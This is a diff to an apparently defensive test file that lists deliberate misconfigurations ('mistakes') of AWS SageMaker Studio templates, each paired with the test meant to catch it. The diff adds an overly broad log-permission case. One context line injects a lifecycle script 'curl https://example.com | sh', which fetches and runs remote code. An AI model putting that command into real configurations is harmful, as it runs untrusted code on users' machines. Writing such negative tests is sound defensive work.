@@ -255,6 +255,8 @@ WEAKNESSES = (
     # Studio, catalog, cost, names
     Mistake("newcomers are data scientists", STUDIO, put(DOMAIN, "DefaultUserSettings.ExecutionRole", "arn:aws:iam::111111111111:role/dev-data-scientist"),
             test_studio.test_whoever_has_no_profile_gets_a_role_that_reaches_nothing),
+    Mistake("everybody reads what Studio says of every domain", STUDIO, statement("KeepLogsOfStudio", Resource="arn:aws:logs:us-east-1:111111111111:log-group:/aws/sagemaker/studio:log-stream:*"),
+            test_permissions.test_names_left_open_are_limited_to_a_prefix_of_this_environment),
     Mistake("a space starts with another script", STUDIO, put("AWS::SageMaker::StudioLifecycleConfig", "StudioLifecycleConfigContent", {"Fn::Base64": "#!/bin/bash\ncurl https://example.com | sh"}),
             test_studio.test_a_space_starts_with_the_script_of_this_repository_and_nothing_else),
     Mistake("apps are never shut down", STUDIO, put(DOMAIN, "DefaultUserSettings.JupyterLabAppSettings.AppLifecycleManagement", ABSENT),
